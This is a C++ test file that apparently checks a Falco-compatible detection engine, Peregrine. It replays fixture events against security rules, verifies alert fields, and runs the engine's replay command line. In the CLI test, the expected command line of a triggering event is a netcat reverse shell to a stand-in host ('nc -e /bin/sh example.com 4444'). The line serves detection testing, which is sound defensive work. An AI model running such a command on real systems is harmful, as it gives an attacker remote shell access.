// Replay fixtures: for every enabled rule of the upstream stable ruleset and of Peregrine's default ruleset, a
// hand-written event that must fire it and a near miss that must not (fixtures/<ruleset>/cases.tsv). Also runs
// the real `peregrine-engine --replay` binary over a fixture.
#include <doctest/doctest.h>

#include "tests/support/skip.h"

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <optional>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "common/event.h"
#include "common/event_json.h"
#include "engine/rules/rule_engine.h"

using namespace peregrine;
using namespace peregrine::engine;
namespace fs = std::filesystem;

namespace {

const fs::path kFixtures = fs::path(PEREGRINE_SOURCE_DIR) / "tests/engine/replay/fixtures";
const fs::path kUpstream = fs::path(PEREGRINE_SOURCE_DIR) / "../shared/falco-rules";

struct Case {
  std::string file, rule, gap;
};

std::vector<Case> read_cases(const fs::path& dir) {
  std::vector<Case> out;
  std::ifstream in(dir / "cases.tsv");
  REQUIRE_MESSAGE(in.good(), "missing " << (dir / "cases.tsv").string());
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    std::istringstream ss(line);
    Case c;
    std::getline(ss, c.file, '\t');
    std::getline(ss, c.rule, '\t');
    std::getline(ss, c.gap, '\t');
    out.push_back(c);
  }
  return out;
}

std::vector<Event> read_events(const fs::path& file) {
  std::ifstream in(file);
  REQUIRE_MESSAGE(in.good(), "missing " << file.string());
  std::vector<Event> out;
  std::string line;
  int n = 0;
  while (std::getline(in, line)) {
    ++n;
    Event e;
    auto r = event_from_json_line(line, e);
    REQUIRE_MESSAGE(r.ok(), file.string() << ":" << n << ": " << (r.ok() ? "" : r.error().message));
    out.push_back(std::move(e));
  }
  return out;
}

bool fires(RuleEngine& eng, const Event& e, const std::string& rule) {
  std::vector<Alert> out;
  eng.process(e, out);
  for (const auto& a : out) {
    if (a.rule == rule) return true;
  }
  return false;
}

/// Loads `rules`, then checks every case and that every enabled rule has one.
void check_ruleset(const std::vector<std::string>& rules, const fs::path& dir) {
  RuleEngine eng;
  auto res = eng.load_files(rules);
  REQUIRE_MESSAGE(res.successful(), res.to_text());
  CHECK_MESSAGE(res.warnings.empty(), res.to_text());
  eng.set_rule_matching(RuleMatching::kAll);
  std::set<std::string> covered;
  for (const auto& c : read_cases(dir)) {
    CAPTURE(c.file);
    CAPTURE(c.rule);
    covered.insert(c.rule);
    auto events = read_events(dir / c.file);
    REQUIRE(events.size() == 2);
    if (c.gap.empty()) {
      CHECK_MESSAGE(fires(eng, events[0], c.rule), "trigger did not fire");
    } else {
      MESSAGE("known gap for '" << c.rule << "': " << c.gap);
      CHECK_FALSE(fires(eng, events[0], c.rule));
    }
    CHECK_MESSAGE(!fires(eng, events[1], c.rule), "near miss fired");
  }
  for (const auto& r : eng.rules()) {
    if (eng.is_enabled(r->name)) CHECK_MESSAGE(covered.count(r->name) == 1, "no replay case for rule " << r->name);
  }
}

std::string run_capture(const std::string& cmd, int& status) {
  std::string out;
  FILE* p = popen(cmd.c_str(), "r");
  REQUIRE(p != nullptr);
  char buf[4096];
  size_t n;
  while ((n = fread(buf, 1, sizeof(buf), p)) > 0) out.append(buf, n);
  status = pclose(p);
  return out;
}

}  // namespace

TEST_CASE("replay: every stable upstream rule fires on its fixture and not on its near miss") {
  if (!fs::exists(kUpstream / "falco_rules.yaml")) {
    PEREGRINE_SKIP_NOTE("" << (kUpstream / "falco_rules.yaml").string() << " is not present");
    return;
  }
  check_ruleset({(kUpstream / "falco_rules.yaml").string()}, kFixtures / "falco_rules");
}

TEST_CASE("replay: every Peregrine default rule fires on its fixture and not on its near miss") {
  check_ruleset({(fs::path(PEREGRINE_SOURCE_DIR) / "rules/peregrine_rules.yaml").string()},
                kFixtures / "peregrine_rules");
}

// The alert of `rule` raised by `e`, or nullopt.
std::optional<Alert> alert_of(RuleEngine& eng, const Event& e, const std::string& rule) {
  std::vector<Alert> out;
  eng.process(e, out);
  for (auto& a : out) {
    if (a.rule == rule) return std::move(a);
  }
  return std::nullopt;
}

TEST_CASE("replay: upstream outputs show exe_flags=%evt.arg.flags as Falco's EXE_* names") {
  if (!fs::exists(kUpstream / "falco_rules.yaml")) {
    PEREGRINE_SKIP_NOTE("" << (kUpstream / "falco_rules.yaml").string() << " is not present");
    return;
  }
  RuleEngine eng;
  auto res = eng.load_files({(kUpstream / "falco_rules.yaml").string()});
  REQUIRE_MESSAGE(res.successful(), res.to_text());
  eng.set_rule_matching(RuleMatching::kAll);
  const auto flags_of = [](const Alert& a) { return std::get<std::string>(a.output_fields.at("evt.arg.flags")); };
  // "exe_flags=X" as a whole token of the output text.
  const auto shows = [](const Alert& a, const std::string& token) {
    size_t at = a.output.find(" " + token);
    size_t end = at == std::string::npos ? at : at + 1 + token.size();
    return at != std::string::npos && (end == a.output.size() || a.output[end] == ' ');
  };

  Event shell = read_events(kFixtures / "falco_rules/terminal_shell_in_container.jsonl")[0];
  shell.proc.exe_writable = true;
  auto a = alert_of(eng, shell, "Terminal shell in container");
  REQUIRE(a.has_value());
  CHECK_MESSAGE(shows(*a, "exe_flags=EXE_WRITABLE"), a->output);
  CHECK(flags_of(*a) == "EXE_WRITABLE");
  shell.proc.exe_writable = false;
  a = alert_of(eng, shell, "Terminal shell in container");
  REQUIRE(a.has_value());
  CHECK_MESSAGE(shows(*a, "exe_flags=0"), a->output);  // Falco prints 0 for an exec without flags

  Event dropped = read_events(kFixtures / "falco_rules/drop_and_execute_new_binary.jsonl")[0];  // upper layer
  a = alert_of(eng, dropped, "Drop and execute new binary in container");
  REQUIRE(a.has_value());
  CHECK_MESSAGE(shows(*a, "exe_flags=EXE_UPPER_LAYER"), a->output);
  CHECK(flags_of(*a) == "EXE_UPPER_LAYER");

  // Every upstream rule whose output has exe_flags shows a value on its trigger, never <NA>.
  int with_flags = 0;
  for (const auto& c : read_cases(kFixtures / "falco_rules")) {
    if (!c.gap.empty()) continue;
    CAPTURE(c.rule);
    auto hit = alert_of(eng, read_events(kFixtures / "falco_rules" / c.file)[0], c.rule);
    REQUIRE(hit.has_value());
    if (hit->output.find("exe_flags=") == std::string::npos) continue;
    ++with_flags;
    CHECK_MESSAGE(hit->output.find("exe_flags=<NA>") == std::string::npos, hit->output);
    CHECK(std::holds_alternative<std::string>(hit->output_fields.at("evt.arg.flags")));
  }
  CHECK(with_flags >= 10);  // the upstream stable rules with exe_flags in their output
}

TEST_CASE("replay CLI: alerts as Falco JSON lines, bad lines reported with their number") {
  const fs::path bin = fs::path(PEREGRINE_BINARY_DIR) / "engine/peregrine-engine";
  if (!fs::exists(bin)) {
    PEREGRINE_SKIP_NOTE("" << bin.string() << " is not built (build the peregrine-engine target)");
    return;
  }
  const fs::path tmp = fs::temp_directory_path() / ("peregrine_replay_" + std::to_string(getpid()));
  fs::create_directories(tmp);
  {
    std::ifstream src(kFixtures / "peregrine_rules/netcat_exec.jsonl");
    std::ofstream dst(tmp / "events.jsonl");
    std::string first;
    std::getline(src, first);
    dst << first << "\n{not json\n\n" << first << "\n";
  }
  int status = 0;
  const std::string cmd = bin.string() + " --rules " + (fs::path(PEREGRINE_SOURCE_DIR) / "rules/peregrine_rules.yaml").string() +
                          " --replay " + (tmp / "events.jsonl").string() + " --hostname replay-host 2>" +
                          (tmp / "err.txt").string();
  const std::string out = run_capture(cmd, status);
  CHECK(status == 0);
  std::istringstream lines(out);
  std::string line;
  int alerts = 0;
  while (std::getline(lines, line)) {
    auto j = nlohmann::json::parse(line);
    CHECK(j["rule"] == "Netcat with command execution");
    CHECK(j["priority"] == "Critical");
    CHECK(j["source"] == "syscall");
    CHECK(j["hostname"] == "replay-host");
    CHECK(j["output_fields"]["proc.cmdline"] == "nc -e /bin/sh example.com 4444");
    CHECK(j.contains("uuid"));
    ++alerts;
  }
  CHECK(alerts == 2);
  std::ifstream err(tmp / "err.txt");
  std::stringstream es;
  es << err.rdbuf();
  CHECK(es.str().find("events.jsonl:2:") != std::string::npos);
  CHECK(es.str().find("1 bad line(s) skipped") != std::string::npos);
  fs::remove_all(tmp);
}

TEST_CASE("replay: a k8s_audit rule (Attach/Exec Pod) fires on an exec audit event, not on a log read") {
  if (!fs::exists(kUpstream / "k8s_audit_rules.yaml")) {
    PEREGRINE_SKIP_NOTE("" << (kUpstream / "k8s_audit_rules.yaml").string() << " is not present");
    return;
  }
  RuleEngine eng;
  auto res = eng.load_files({(kUpstream / "k8s_audit_rules.yaml").string()});
  REQUIRE_MESSAGE(res.successful(), res.to_text());
  eng.set_rule_matching(RuleMatching::kAll);
  auto events = read_events(kFixtures / "k8s_audit_rules/attach_exec_pod.jsonl");
  REQUIRE(events.size() == 2);
  std::vector<Alert> out;
  eng.process(events[0], out);
  bool found = false;
  for (const auto& a : out) {
    if (a.rule != "Attach/Exec Pod") continue;
    found = true;
    CHECK(a.source == "k8s_audit");
    CHECK(a.priority == Priority::kNotice);
    CHECK(std::get<std::string>(a.output_fields.at("ka.user.name")) == "alice@example.com");
    CHECK(std::get<std::string>(a.output_fields.at("ka.uri.param[command]")) == "sh");
  }
  CHECK(found);
  CHECK_FALSE(fires(eng, events[1], "Attach/Exec Pod"));
}
